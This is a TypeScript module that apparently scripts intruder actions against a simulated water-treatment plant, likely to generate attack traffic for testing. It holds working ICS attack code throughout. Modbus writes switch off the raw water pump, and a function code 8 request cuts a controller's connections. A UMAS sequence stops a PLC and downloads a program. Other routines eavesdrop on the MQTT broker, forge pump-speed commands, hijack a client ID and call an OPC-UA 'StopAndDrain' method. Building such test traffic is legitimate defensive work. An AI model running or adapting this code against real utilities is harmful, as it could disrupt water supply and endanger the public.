import { once } from "node:events";
import { connect } from "node:net";
import { connectAsync, type MqttClient } from "mqtt";
import { worksCommand } from "../../../test/stacks/works-edge-node.js";
import { HandClient } from "../hand-modbus.js";
import { sitInTheMiddle } from "./man-in-the-middle.js";
import { plantSleep } from "./plant-time.js";
import { useDesktop } from "./remote-desktop.js";
import { stationSession } from "./station-session.js";
import { PORTS, WATER, type WaterHost } from "./water-hosts.js";
import { firstPort } from "./water-role.js";

type Acts = Readonly<Record<string, () => Promise<void>>>;

const NODES_CRAWLED = 150;

let ports = 0;
const nextPort = () => firstPort() + ports++;

const BROKER = `mqtt://${WATER.broker.address}:${PORTS.mqtt}`;

/** What the intruder on a host knows, by name. */
export function intruderActs(host: WaterHost): Acts {
  const session = stationSession(host, "None", `${host.name}-guest`);
  return {
    joinAndRead,
    stopPump,
    scanRegisters,
    restartCommunications,
    downloadProgram,
    spyOnBroker,
    forgeCommand,
    takeOver,
    sitInTheMiddle: () => sitInTheMiddle(20),
    useDesktop: () => useDesktop(WATER.eng, nextPort(), 20, async () => undefined),
    async drain() {
      await session.open();
      await session.call("Tank", "StopAndDrain");
      await session.close();
    },
    async crawl() {
      await session.open();
      await session.crawl(NODES_CRAWLED);
      await session.close();
    },
  };
}

/** Somebody plugs a laptop in, tries a web page that is not there, and reads the tank. */
async function joinAndRead(): Promise<void> {
  for (const { address } of [WATER.plcIntake, WATER.plcDosing]) {
    const socket = connect({ host: address, port: PORTS.http, localPort: nextPort() });
    await once(socket, "error");
  }
  const plc = await HandClient.open(WATER.plcIntake.address, PORTS.modbus, nextPort(), 1);
  for (let reads = 0; reads < 8; reads++) {
    await plc.ask(4, [0, 0, 0, 8]);
    await plantSleep(1.5);
  }
  plc.close();
}

/** The raw water pump is switched off, three times, for the level switches it on again. */
async function stopPump(): Promise<void> {
  for (let writes = 0; writes < 3; writes++) {
    const plc = await HandClient.open(WATER.plcIntake.address, PORTS.modbus, nextPort(), 1);
    await plc.ask(5, [0, 0, 0, 0]);
    plc.close();
    await plantSleep(4);
  }
}

/** Every holding register there could be, 64 at a time, to find where the map ends. */
async function scanRegisters(): Promise<void> {
  const plc = await HandClient.open(WATER.plcDosing.address, PORTS.modbus, nextPort(), 1);
  for (let from = 0; from < 0x10000; from += 512) {
    await plc.ask(3, [from >> 8, from & 255, 0, 64]).catch(() => undefined);
  }
  plc.close();
}

/** FC 8, Restart Communications Option: every connection of the controller is cut [MODBUS-AP §6.8]. */
async function restartCommunications(): Promise<void> {
  const plc = await HandClient.open(WATER.plcDosing.address, PORTS.modbus, nextPort(), 1);
  await plc.ask(8, [0, 1, 0, 0]);
}

/** UMAS: reservation, stop, download in blocks, start. */
async function downloadProgram(): Promise<void> {
  const plc = await HandClient.open(WATER.plcFilter.address, PORTS.modbus, nextPort(), 1);
  const say = (code: number, ...data: readonly number[]) => plc.ask(90, [0, code, ...data]);
  await say(0x02);
  await say(0x10, 1, 0, 0, 0, 4, ...Buffer.from("ENG1"));
  await say(0x41, 0xff, 0);
  await say(0x33, 0, 1, 0xf4, 0x03);
  for (let block = 1; block <= 12; block++) {
    await say(0x34, 0, block, 0, 0x80, 0, ...Buffer.alloc(128, block));
    await plantSleep(0.5);
  }
  await say(0x35, 0, 1, 12, 0);
  await say(0x40, 0xff, 0);
  await say(0x11);
  plc.close();
}

/** Somebody hears everything that goes over the broker. */
async function spyOnBroker(): Promise<void> {
  const spy = await connectAsync(BROKER, { clientId: "mqtt-explorer-5f2c", protocolVersion: 5 });
  await spy.subscribeAsync(["#", "$SYS/#"], { qos: 0 });
  await plantSleep(12);
  await spy.endAsync();
}

/** A command that only the host application gives. */
async function forgeCommand(): Promise<void> {
  const client = await connectAsync(BROKER, { clientId: "tower-service", protocolVersion: 5 });
  const { topic, payload } = worksCommand("pumps", "booster1", { name: "Speed", type: "Double", value: 0 });
  await client.publishAsync(topic, payload, { qos: 1 });
  await plantSleep(2);
  await client.endAsync();
}

/** The broker closes the connection of who has the same name; the right one comes back and throws this one out. */
async function takeOver(): Promise<void> {
  const thief = await connectAsync(BROKER, { clientId: "edge-pumps", protocolVersion: 4, reconnectPeriod: 0 });
  await closed(thief);
  await plantSleep(3);
  const again = await connectAsync(BROKER, { clientId: "edge-pumps", protocolVersion: 4, reconnectPeriod: 0 });
  await closed(again);
}

function closed(client: MqttClient): Promise<void> {
  return new Promise((done) => client.once("close", () => done()));
}
